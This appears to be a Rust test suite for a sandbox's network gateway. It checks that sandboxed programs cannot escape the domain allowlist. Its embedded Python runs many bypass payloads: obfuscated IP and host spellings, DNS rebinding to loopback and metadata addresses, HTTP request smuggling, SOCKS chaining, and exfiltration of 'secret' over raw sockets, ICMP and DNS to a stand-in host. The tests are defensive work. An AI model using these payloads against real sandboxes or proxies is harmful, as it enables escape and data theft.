//! The ways out by network that were used against tools like this (ESCAPES.md, section 5), by what arrived outside.
//!
//! | way out | tests |
//! |---|---|
//! | suffixes, wildcards, case, dots, NUL and control characters, look-alikes, userinfo, spellings of addresses, v4 in v6, zones, metadata | `no_spelling_of_a_host_…`, `spellings_of_an_allowed_host_…`, `network::no_spelling_and_no_suffix_…`; proptests in `policy::host`, `policy::network::tests`, `network::socks::message` |
//! | an allowed name that resolves to loopback, private or metadata addresses, or changes between check and dial | `names_that_lead_home_or_change_…`, `network::an_allowed_name_that_leads_home_is_refused` |
//! | CONNECT host ≠ SNI ≠ Host, second requests, smuggled lengths, absolute form against Host, ports | `no_second_request_is_smuggled_…`, `a_tunnel_leads_to_the_name_…`, `network::the_name_in_tls_and_http_…`, `network::denied_beats_allowed_and_a_port_is_a_port`, `real_network::a_client_of_http_1_0_…` |
//! | programs that ignore the proxy: TCP, UDP, QUIC, DNS as a channel, IPv6, ICMP, raw, vsock, abstract sockets | `nothing_leaves_by_another_protocol_or_family`, `network::nothing_leaves_but_tcp_to_what_is_allowed` |
//! | a relay for others; the proxy used by another user, another sandbox or the host; a secret in `ps` | `nobody_else_reaches_the_doors_of_a_sandbox`, `network::an_upstream_proxy_carries_…` |
//! | a flood of questions; an answer that is remembered for more than was shown | `a_flood_of_questions_ends_…`, `an_answer_counts_for_what_was_shown_only`; unit tests of `network::questions` |

use crate::net::{Outside, has_programs};
use crate::world::{Ran, World, each, until};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;

fn online(settings: &str, check: impl Fn(&World, &Outside)) {
    if !has_programs() {
        return;
    }
    each(|world| {
        world.user_settings(settings);
        check(world, &Outside::new(world));
    });
}

const GOOD: &str = r#"{"sandbox": {"allowedDomains": ["good.test", "*.good.test"]}}"#;

/// Ways to say a host to the gateway, byte by byte, where no library puts it right beforehand.
const SAY: &str = r#"
import socket, struct, sys
DNS = 20
HTTP, SOCKS = ("127.0.0.1", 28128), ("127.0.0.1", 28080)
def open_to(place):
    s = socket.create_connection(place, 20); s.settimeout(20); return s
def read(s):
    out = b""
    try:
        while part := s.recv(65536): out += part
    except OSError: pass
    return out
REQUEST = b"GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
def connect(host, port=80):
    s = open_to(HTTP); s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port))
    head = s.recv(4096)
    if b" 200 " in head.split(b"\r\n")[0]: s.sendall(REQUEST % (b"connect", host)); return read(s)
    return head
def absolute(host, port=80):
    s = open_to(HTTP); s.sendall(b"GET http://%s:%d/absolute HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (host, port, host))
    return read(s)
def socks5(host, port=80):
    s = open_to(SOCKS); s.sendall(b"\5\1\0" + b"\5\1\0\3" + bytes([len(host)]) + host + struct.pack(">H", port))
    head = s.recv(2) + s.recv(10)
    if head[3:4] == b"\0": s.sendall(REQUEST % (b"socks5", host)); return read(s)
    return head
def socks4(host, port=80):
    s = open_to(SOCKS); s.sendall(b"\4\1" + struct.pack(">H", port) + b"\0\0\0\1me\0" + host + b"\0")
    head = s.recv(8)
    if head[1:2] == b"\x5a": s.sendall(REQUEST % (b"socks4", host)); return read(s)
    return head
def transparent(host, port=80):
    # Through the resolver of the sandbox, asked byte by byte too.
    labels = b"".join(bytes([len(p)]) + p for p in host.split(b".")) + b"\0"
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(DNS)
    d.sendto(b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\1\0\1", ("203.0.113.53", 53))
    answer = d.recv(1500)
    if struct.unpack(">H", answer[6:8])[0] == 0: return b""
    s = open_to((socket.inet_ntoa(answer[-4:]), port)); s.sendall(REQUEST % (b"transparent", host)); return read(s)
ALL = [connect, absolute, socks5, socks4, transparent]
def attempt(way, host, port=80):
    try: return way(host, port)
    except (OSError, ValueError, struct.error) as error: return type(error).__name__.encode()
"#;

fn python(outside: &Outside, world: &World, program: &str) -> Ran {
    outside.run(world, &format!("python3 - <<'PY'\n{SAY}\n{program}\nPY"))
}

/// What no connection of these tests may ever have reached.
fn nothing_arrived(received: &str, ran: &Ran) {
    for place in ["203.0.113.66", "10.9.9.9", "169.254", "127.0.0.1", "2001:db8", "::1", "evil.test HTTP"] {
        let arrived = received.lines().any(|line| !line.starts_with("dns ") && line.contains(place));
        assert!(!arrived, "{place}: {received}\n{ran:?}");
    }
}

#[test]
fn no_spelling_of_a_host_reaches_one_that_is_not_allowed() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
hosts = """evil.test|EVIL.TEST.|evilgood.test|good.test.evil.test|xgood.test|.good.test.evil.test|good.test-evil.test
good.test@evil.test|good.test:80@evil.test|evil.test#good.test|evil.test#.good.test|evil.test/good.test|evil.test?.good.test
evil.test\\.good.test|evil.test;.good.test|evil.test,good.test|good.test,evil.test|good.test evil.test|evil.test:80:good.test
good.test%2eevil.test|evil.test%00.good.test|evil.test%23.good.test|evil.test%0d%0a.good.test
203.0.113.66|203.0.113.66.|0xcb.0x0.0x71.0x42|0xcb007142|3405803842|0313.0.0161.0102|0313.0x71.66|203.0.28994|203.28994
[::ffff:203.0.113.66]|::ffff:203.0.113.66|[::ffff:cb00:7142]|[::203.0.113.66]|[0:0:0:0:0:ffff:cb00:7142]|[2001:db8::66]|2001:db8::66
[2001:db8::66%lo]|[2001:db8::66%25lo]|[fe80::1%lo]|[::1]|::1|[::1%lo]|[0:0:0:0:0:0:0:1]|[::]|::|[::ffff:127.0.0.1]|[::ffff:7f00:1]|[::7f00:1]
127.0.0.1|127.1|127.0.1|0177.0.0.1|0x7f.1|0x7f000001|2130706433|017700000001|0|0.0.0.0|0x0|localhost|LOCALHOST.|x.localhost|127.0.0.2|127.255.255.254
10.9.9.9|10.592137|0xa.9.9.9|012.011.011.011|[::ffff:10.9.9.9]|[64:ff9b::10.9.9.9]|[64:ff9b::7f00:1]|[2002:7f00:1::]|[2002:a09:909::]
169.254.169.254|0xa9fea9fe|2852039166|0251.0376.0251.0376|169.16689662|[::ffff:169.254.169.254]|[::ffff:a9fe:a9fe]|[64:ff9b::a9fe:a9fe]|[fd00:ec2::254]
good.test.|*.good.test|*|*.test|..|.|-|_|xn--|xn--good.test.evil.test|[good.test]|[203.0.113.66]""".replace("\n", "|").split("|")
hosts = [host.encode() for host in hosts if host not in ("good.test.",)]
# What no line can hold: NUL, ends of lines, blanks, what maps to other characters, what is no UTF-8.
hosts += [b"evil.test\0.good.test", b"good.test\0.evil.test", b"good.test\0", b"evil.test\r\n.good.test", b"evil.test\n.good.test",
    b"evil.test\t.good.test", b"evil.test .good.test", b" evil.test", b"good.test\x7f.evil.test", b"evil.test\x1b.good.test", b"\xff\xfe.good.test", b"evil.test\xc0\xae"]
hosts += [text.encode() for text in ["evil。test", "ｅｖｉｌ.test", "evil．test", "gооd.test", "good.tеst", "１２７.０.０.１",
    "①②⑦.0.0.1", "127。0。0。1", "203｡0｡113｡66", "１６９.254.169.254", "evil\u00ad.test", "evil\u200b.test", "evil.test\u202e", "ev\u0131l.test", "evil.te\u017ft"]]
DNS = 0.2 # what is no question gets no answer
for host in hosts:
    for way in ALL:
        for port in (80, 4444):
            attempt(way, host, port)
print(len(hosts))
"#,
        );
        assert!(ran.stdout.trim().parse::<u32>().is_ok_and(|count| count > 120), "{ran:?}");
        nothing_arrived(&outside.received(), &ran);
        assert!(!outside.received().contains("http GET"), "{}", outside.received());
    });
}

#[test]
fn spellings_of_an_allowed_host_reach_it() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
for host in [b"good.test", b"GOOD.test", b"good.test.", b"gOOd.tEst.", "ｇood.test".encode(), "good。test".encode(), b"www.good.test"]:
    ways = [socks5, socks4] if max(host) > 127 else ALL[:4] if host.endswith(b".") else ALL
    print(sum(b"200 OK" in attempt(way, host) for way in ways) - len(ways))
"#,
        );
        assert_eq!(ran.stdout, "0\n".repeat(7), "{ran:?}");
        nothing_arrived(&outside.received(), &ran);
    });
}

#[test]
fn names_that_lead_home_or_change_between_check_and_dial_reach_no_address_that_was_not_checked() {
    let settings = r#"{"sandbox": {"allowedDomains": ["rebind.test", "both.test", "htob.test", "six.test", "mapped.test",
        "nat.test", "loop.test", "private.test", "meta.test", "zero.test", "203.0.113.10"]}}"#;
    online(settings, |world, outside| {
        // Each command resolves once for all of its connections, and each gets the next of four addresses.
        for round in 0..8 {
            let before = outside.received().matches("dns rebind.test A").count();
            let ran = python(
                outside,
                world,
                r#"print(sum(b"200 OK" in attempt(way, b"rebind.test") for way in ALL))"#,
            );
            assert_eq!(ran.stdout, if round % 4 == 0 { "5\n" } else { "0\n" }, "{round} {ran:?}");
            assert_eq!(outside.received().matches("dns rebind.test A").count(), before + 1);
            nothing_arrived(&outside.received(), &ran);
        }
        let ran = python(
            outside,
            world,
            r#"
for host in [b"both.test", b"htob.test", b"six.test", b"mapped.test", b"nat.test", b"loop.test", b"private.test", b"meta.test", b"zero.test"]:
    print(host.decode(), sum(b"200 OK" in attempt(way, host) for way in ALL), sum(b"200 OK" in attempt(way, host, 4444) for way in ALL))
"#,
        );
        let expected = "both.test 5 0\nhtob.test 5 0\nsix.test 0 0\nmapped.test 0 0\nnat.test 0 0\nloop.test 0 0\n\
                        private.test 0 0\nmeta.test 0 0\nzero.test 0 0\n";
        assert_eq!(ran.stdout, expected, "{ran:?}");
        nothing_arrived(&outside.received(), &ran);
    });
}

#[test]
fn no_second_request_is_smuggled_past_the_judgement() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n"
L = str(len(HIDDEN)).encode()
heads = [
    b"Content-Length: 0\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: " + L, b"Content-Length: " + L + b"\r\nContent-Length: 0", b"Content-Length: 0, " + L,
    b"Content-Length: +0", b"Content-Length: -1", b"Content-Length: 0x0", b"Content-Length:\t0", b"Content-Length : 0", b"Content-Length: 0 " + L,
    b"Content-Length: 18446744073709551616", b"Content-Length\0: 5", b"Content-Length: \x0b0", b"Content_Length: 5",
    b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding: \"chunked\"", b"transfer-encoding: CHUNKED, gzip",
    b"Transfer-Encoding:\r\n chunked", b"X: y\r\n Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked", b"Host: other.test",
    b"X: y\r\n\tHost: other.test", b"Connection: Host", b"Connection: Content-Length\r\nContent-Length: 0", b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    b"Upgrade: TLS/1.0\r\nConnection: Upgrade", b"Upgrade: websocket\r\nUpgrade: h2c\r\nConnection: Upgrade", b"Expect: 100-continue",
]
bodies = [b"", b"0\r\n\r\n", b"0\n\n", b"0;x=\r\n\r\n", b"0 \r\n\r\n", b"00000000000000000\r\n\r\n", b"fffffffffffffffff\r\n", b"1\r\nx\r\n0\r\nHost: other.test\r\n\r\n", b"-1\r\n\r\n"]
tried = 0
for head in heads:
    for body in bodies:
        for place, line in [(("good.test", 80), b"POST /open HTTP/1.1"), (HTTP, b"POST http://good.test/open HTTP/1.1")]:
            try:
                s = open_to(place); s.sendall(line + b"\r\nHost: good.test\r\n" + head + b"\r\n\r\n" + body + HIDDEN); s.shutdown(1); read(s); tried += 1
            except OSError: tried += 1
# Request lines and Host headers that two readers may read differently.
for first in [b"GET /x HTTP/1.1\nHost: other.test\r\n\r\n", b"GET http://other.test/x HTTP/1.1\r\nHost: good.test\r\n\r\n", b"GET http://good.test@other.test/x HTTP/1.1\r\nHost: good.test\r\n\r\n",
    b"GET //other.test/x HTTP/1.1\r\nHost: good.test@other.test\r\n\r\n", b"GET /x HTTP/1.1\r\nHost: good.test, other.test\r\n\r\n", b"GET /x HTTP/1.1\r\nHost: good.test other.test\r\n\r\n",
    b"GET /x HTTP/1.1\r\nHost : other.test\r\nHost: good.test\r\n\r\n", b"GET /x HTTP/1.1\r\n Host: other.test\r\nHost: good.test\r\n\r\n", b"GET /x HTTP/1.1\r\nHost:other.test\r\n\r\n", b"GET /x HTTP/1.1\r\nHost:\r\n\r\n",
    b"GET /x HTTP/1.1\r\nHost: good.test:8080\r\n\r\n", b"GET /x HTTP/1.1\r\nHost: good.test:80:other.test\r\n\r\n", b"GET /x HTTP/0.9\r\nHost: other.test\r\n\r\n", b"GET /x\r\nHost: other.test\r\n\r\n", b"GET /x HTTP/1.1 HTTP/1.1\r\nHost: other.test\r\n\r\n",
    b"CONNECT other.test:80 HTTP/1.1\r\nHost: good.test\r\n\r\n" + HIDDEN, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET /x HTTP/1.1\r\nX-Forwarded-Host: y\r\nHost: other.test\r\n\r\n"]:
    for place in [("good.test", 80), ("good.test", 8080), HTTP]:
        try: s = open_to(place); s.sendall(first); s.shutdown(1); read(s); tried += 1
        except OSError: tried += 1
print(tried)
"#,
        );
        assert!(ran.stdout.trim().parse::<u32>().is_ok_and(|count| count > 600), "{ran:?}");
        let received = outside.received();
        assert!(!received.contains("other.test"), "{ran:?} {received}");
        assert!(!received.contains("/hidden"), "{ran:?} {received}");
        nothing_arrived(&received, &ran);
    });
}

#[test]
fn a_tunnel_leads_to_the_name_that_it_was_opened_for() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def tunnel(way, host, port):
    if way == "connect":
        s = open_to(HTTP); s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: other.test\r\n\r\n" % (host, port)); head = s.recv(4096)
        return s if b" 200 " in head else None
    if way == "socks":
        s = open_to(SOCKS); s.sendall(b"\5\1\0\5\1\0\3" + bytes([len(host)]) + host + struct.pack(">H", port)); head = s.recv(2) + s.recv(10)
        return s if head[3] == 0 else None
    return open_to((host.decode(), port))
for way in ("transparent", "connect", "socks"):
    for port in (443,):
        for name in ("good.test", "other.test", "evil.test", "www.good.test", None):
            s = tunnel(way, b"good.test", port)
            if s is None: print(way, name, "refused"); continue
            try:
                t = context.wrap_socket(s, server_hostname=name)
                t.sendall(b"GET /tls HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"); print(way, name, b"200 OK" in read(t))
            except OSError as error: print(way, name, "refused")
    for host in ("good.test", "other.test"):
        s = tunnel(way, b"good.test", 80)
        if s is None: print(way, host, "refused"); continue
        s.sendall(b"GET /plain HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode()); print(way, host, b"200 OK" in read(s))
"#,
        );
        let ways = ["transparent", "connect", "socks"].map(|way| {
            format!(
                "{way} good.test True\n{way} other.test refused\n{way} evil.test refused\n{way} www.good.test refused\n\
                 {way} None refused\n{way} good.test True\n{way} other.test False\n"
            )
        });
        // The CONNECT above had another Host header: what counts, and was judged, is the target (RFC 9112, 3.2.2).
        assert_eq!(ran.stdout, ways.concat(), "{ran:?}");
        let received = outside.received();
        assert!(!received.contains("other.test") && !received.contains("sni None"), "{received}");
        nothing_arrived(&received, &ran);
    });
}

#[test]
fn no_allowed_server_leads_on_to_another_host() {
    let settings =
        r#"{"sandbox": {"allowedDomains": ["good.test"], "network": {"allowLocalBinding": true}}}"#;
    for settings in [GOOD, settings] {
        online(settings, |world, outside| {
            let ran = python(
                outside,
                world,
                r#"
import time
FIVE = b"\5\1\0\3\x09evil.test\0\x50"
FOUR = b"\4\1\0\x50\xcb\0\x71\x42me\0"
ways = [[FOUR], [FOUR[:5], FOUR[5:]], [FOUR[:2], FOUR[2:8], FOUR[8:]], [b"\5\1\0" + FIVE], [b"\5\1\0", FIVE], [b"\5", b"\1\0", FIVE[:3], FIVE[3:]], [b"\5\1\0\5", FIVE[1:]],
    [b"\5\2\0\2" + FIVE], [b"\5\1\2" + b"\1\2me\2it" + FIVE], [b"\5\x20" + bytes(32) + FIVE], [b"\5\x20", bytes(32), FIVE], [b"\5\1\0", b"\5\xf0\7\3\x09evil.test\0\0"]]
def by_connect(host):
    s = open_to(HTTP); s.sendall(b"CONNECT %s:1080 HTTP/1.1\r\n\r\n" % host.encode()); s.recv(4096); return s
def by_socks(host):
    s = open_to(SOCKS); s.sendall(b"\5\1\0\5\1\0\3" + bytes([len(host)]) + host.encode() + struct.pack(">H", 1080)); s.recv(2); s.recv(10); return s
def attempt_one(host, way, opened):
    try:
        s = opened(host); s.settimeout(0.4)
        for part in way:
            s.sendall(part)
            try: s.recv(100)
            except TimeoutError: pass
        s.shutdown(1)
    except OSError: pass
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(24) as all:
    for host in ("good.test", "localhost"):
        for way in ways:
            for opened in (lambda host: open_to((host, 1080)), by_connect, by_socks): all.submit(attempt_one, host, way, opened)
# What only begins so passes.
for words in (b"\5\0\0\0\5\0\0\0\0", b"\4\0\0\0\5", b"\4\1\0\0{\"a\": 1", b"\5\x0a\3abc"):
    s = open_to(("good.test", 7000)); s.sendall(words); print(s.recv(100) == words)
"#,
            );
            assert_eq!(ran.stdout, "True\n".repeat(4), "{ran:?}");
            assert!(ran.stderr.contains("SOCKS would lead on to another host"), "{ran:?}");
            assert!(!outside.received().contains("socks "), "{}", outside.received());
        });
    }
}

#[test]
fn nothing_leaves_by_another_protocol_or_family() {
    online(GOOD, |world, outside| {
        let ran = python(
            outside,
            world,
            r#"
import ctypes, os
def attempt(name, act):
    try: act(); print(name, "done")
    except OSError: print(name, "failed")
V6 = "2001:db8::66"
def tcp(family, place):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(1 if place[1] == 53 else 20); s.connect(place); s.sendall(b"\x13secret"); assert s.recv(1) == b""
def udp(family, place):
    socket.socket(family, socket.SOCK_DGRAM).sendto(b"secret", place)
for port in (53, 80, 443, 4444):
    attempt("tcp6", lambda: tcp(socket.AF_INET6, (V6, port)))
    attempt("mapped", lambda: tcp(socket.AF_INET6, ("::ffff:203.0.113.66", port)))
    attempt("udp6", lambda: udp(socket.AF_INET6, (V6, port)))
    attempt("udpmapped", lambda: udp(socket.AF_INET6, ("::ffff:203.0.113.66", port)))
def fast_open():
    s = socket.socket(); s.sendto(b"\x13secret", 0x20000000, ("203.0.113.66", 4444)); s.settimeout(20); assert s.recv(1) == b""
attempt("fastopen", fast_open)
def reconnect():
    # A socket that was connected to what is allowed is connected elsewhere.
    s = socket.socket(); s.connect(("good.test", 7000))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.connect(s.fileno(), ctypes.create_string_buffer(16), 16)
    s.connect(("203.0.113.66", 4444)); s.sendall(b"\x13secret"); s.settimeout(20); assert s.recv(1) == b""
attempt("reconnect", reconnect)
for name, family, kind, protocol in [("icmp", 2, 2, 1), ("icmp6", 10, 2, 58)]:
    def ping():
        s = socket.socket(family, kind, protocol); s.settimeout(0.5)
        s.sendto(b"\x08\0\0\0\0\1\0\1secret", ("203.0.113.66" if family == 2 else V6, 0)); s.recv(100)
    attempt(name, ping)
for name, family, kind, protocol in [("raw4", 2, 3, 255), ("raw6", 10, 3, 255), ("packet", 17, 3, 3), ("vsock", 40, 1, 0), ("sctp", 2, 1, 132), ("dccp", 2, 6, 33),
        ("bluetooth", 31, 3, 0), ("can", 29, 3, 1), ("alg", 38, 5, 0), ("xdp", 44, 3, 0), ("unix", 1, 2, 0), ("nfnetlink", 16, 3, 12), ("kobject", 16, 3, 15)]:
    attempt(name, lambda: socket.socket(family, kind, protocol))
def datagram_socket_pair(): a, b = socket.socketpair(); a.sendall(b"x"); assert b.recv(1) == b"x"
attempt("pair", datagram_socket_pair)
# DNS as a channel: every kind of question, to every server, over both.
def question(name, kind): return b"\1\2\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
for server in ("203.0.113.53", "203.0.113.66", "8.8.8.8"):
    for kind in (1, 2, 5, 10, 12, 15, 16, 28, 33, 65, 255):
        d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(20); d.sendto(question("secret%d.evil.test" % kind, kind), (server, 53)); d.recv(1500)
    t = open_to((server, 53)); q = question("secrettcp.evil.test", 16); t.sendall(struct.pack(">H", len(q)) + q); t.recv(1500)
for name in ("secretinfo.evil.test", "secret.good.test"):
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
"#,
        );
        for kind in [
            "raw4",
            "raw6",
            "packet",
            "vsock",
            "sctp",
            "dccp",
            "bluetooth",
            "can",
            "alg",
            "xdp",
            "unix",
            "nfnetlink",
            "kobject",
            "icmp",
            "icmp6",
        ] {
            assert!(ran.stdout.contains(&format!("{kind} failed\n")), "{kind}: {ran:?}");
        }
        assert!(!ran.stderr.contains("Traceback"), "{ran:?}");
        let received = outside.received();
        assert!(!received.contains("secret") && !received.contains("udp "), "{received}");
        nothing_arrived(&received, &ran);
    });
}

#[test]
fn nobody_else_reaches_the_doors_of_a_sandbox() {
    online(GOOD, |world, outside| {
        let text = "python3 -m http.server -b 0.0.0.0 9000 >/dev/null 2>&1 & python3 -c 'import socket
s = socket.socket(); s.bind((\"0.0.0.0\", 9001)); s.listen()
while True:
    c, _ = s.accept(); o = socket.create_connection((\"good.test\", 80)); o.sendall(c.recv(9999)); c.sendall(o.recv(9999)); c.close()' & \
                    until curl -s http://127.0.0.1:9000/ >/dev/null; do sleep 0.02; done; touch serving; until [ -e go ]; do sleep 0.02; done; kill %1 %2";
        let child = outside
            .command(world, &world.bin("sbsh"), &["-c", text])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        until(|| world.project.join("serving").exists());
        // The host, as root, and as a user who is nobody's; then another sandbox with nothing allowed.
        let knock = "for port in 28128 28080 28129 9000 9001 53; do for host in 127.0.0.1 203.0.113.10 '[::1]'; do
                 curl -s -m 5 -o /dev/null http://$host:$port/ && echo reached $host:$port; curl -s -m 5 -o /dev/null -x http://$host:$port http://good.test/relayed && echo through $host:$port
             done; done; grep -ci sbsh /proc/net/unix";
        for uid in ["0", "60607"] {
            let mut command = outside.command(
                world,
                "setpriv".as_ref(),
                &["--reuid", uid, "--clear-groups", "sh", "-c", knock],
            );
            if world.user != 0 {
                command = outside.command(world, "sh".as_ref(), &["-c", knock]);
            }
            let ran: Ran = command.output().unwrap().into();
            assert_eq!(ran.stdout, "0\n", "user {uid}: {ran:?}");
        }
        let other = World::new(world.user);
        other.user_settings(r#"{"sandbox": {"network": {"strictAllowlist": true}}}"#);
        let text = "for port in 28128 28080 9000 9001; do curl -s -m 5 -o /dev/null http://127.0.0.1:$port/relayed && echo reached $port; done
             curl -s -o /dev/null -w '%{http_code}\\n' -x http://127.0.0.1:28128 http://good.test/relayed; curl -s -o /dev/null -x socks5h://127.0.0.1:28080 http://good.test/relayed; echo $?
             curl -s -o /dev/null http://203.0.113.10:9001/relayed";
        let ran: Ran = outside.command(&other, &other.bin("sbsh"), &["-c", text]).output().unwrap().into();
        // Its own doors answer a request for themselves with 400, which is an answer to curl: not the other's doors.
        assert_eq!(ran.stdout, "reached 28128\nreached 28080\n403\n97\n", "{ran:?}");
        // What runs shows in `ps` without a secret, because there is none: no token opens a door.
        let arguments = std::process::Command::new("sh").args(["-c", "cat /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -a -iE 'token|secret=|passw' | grep -avE 'grep|relayed' ; true"]).output().unwrap();
        assert!(!String::from_utf8_lossy(&arguments.stdout).contains("sbsh"), "{arguments:?}");
        fs::write(world.project.join("go"), "").unwrap();
        let ran: Ran = child.wait_with_output().unwrap().into();
        let received = outside.received();
        assert!(!received.contains("/relayed"), "{ran:?} {received}");
    });
}

/// An askpass program that counts what it is asked and answers with this.
fn askpass(world: &World, answer: &str) -> std::path::PathBuf {
    let program = world.outside.join("askpass");
    world.write(&program, &format!("#!/bin/sh\ncat >> \"$0.asked\"; echo >> \"$0.asked\"\necho {answer}\n"));
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    program
}

fn asked(world: &World) -> Vec<String> {
    let text = fs::read_to_string(world.outside.join("askpass.asked")).unwrap_or_default();
    let questions = text.lines().filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok());
    questions.map(|q| format!("{}:{}", q["host"].as_str().unwrap(), q["port"])).collect()
}

#[test]
fn a_flood_of_questions_ends_and_what_was_refused_is_not_asked_again() {
    online("{}", |world, outside| {
        let program = askpass(world, "no");
        let text = "for i in $(seq 60); do curl -s -o /dev/null http://h$i.evil.test/; done; for i in $(seq 5); do curl -s -o /dev/null http://h1.evil.test/; done
                    seq 100 | xargs -P 20 -I{} curl -s -o /dev/null http://p{}.evil.test/";
        let ran: Ran = outside
            .command(world, &world.bin("sbsh"), &["-c", text])
            .env("SBSH_ASKPASS", &program)
            .output()
            .unwrap()
            .into();
        let asked = asked(world);
        assert_eq!(asked.len(), 24, "{ran:?} {asked:?}");
        assert_eq!(asked.iter().filter(|place| *place == "h1.evil.test:80").count(), 1, "{asked:?}");
        assert!(ran.stderr.len() < 20_000, "{} bytes", ran.stderr.len());
        nothing_arrived(&outside.received(), &ran);
    });
}

#[test]
fn an_answer_counts_for_what_was_shown_only() {
    online("{}", |world, outside| {
        for (answer, expected) in [
            ("session", vec!["good.test:80", "good.test:8080", "www.good.test:80", "other.test:80"]),
            (
                "once",
                vec!["good.test:80", "good.test:80", "good.test:8080", "www.good.test:80", "other.test:80"],
            ),
        ] {
            let program = askpass(world, answer);
            let _ = fs::remove_file(world.outside.join("askpass.asked"));
            // A kept connection, too: what its first request was allowed says nothing of the second.
            let text = "curl -s http://good.test/1; curl -s http://good.test/2; curl -s http://good.test:8080/3; curl -s http://www.good.test/4
                        printf 'GET /5 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n' | curl -s -m 5 telnet://good.test:80 >/dev/null; curl -s http://other.test/6";
            let run = |text: &str| -> Ran {
                let mut command = outside.command(world, &world.bin("sbsh"), &["-c", text]);
                command.env("SBSH_ASKPASS", &program).output().unwrap().into()
            };
            let ran = run(text);
            let mut seen = asked(world);
            if answer == "once" {
                // The telnet connection to good.test:80 is one more.
                seen.retain({
                    let mut kept = 0;
                    move |place| {
                        kept += usize::from(place == "good.test:80");
                        place != "good.test:80" || kept <= 2
                    }
                });
            }
            assert_eq!(seen, expected, "{answer} {ran:?}");
            assert_eq!(ran.stdout.lines().count(), 5, "{ran:?}");
            assert!(!outside.received().contains("/5 "), "{}", outside.received());
            // The next command asks anew.
            let before = asked(world).len();
            run("curl -s http://good.test/7");
            assert_eq!(asked(world).len(), before + 1, "{answer}");
        }
    });
}
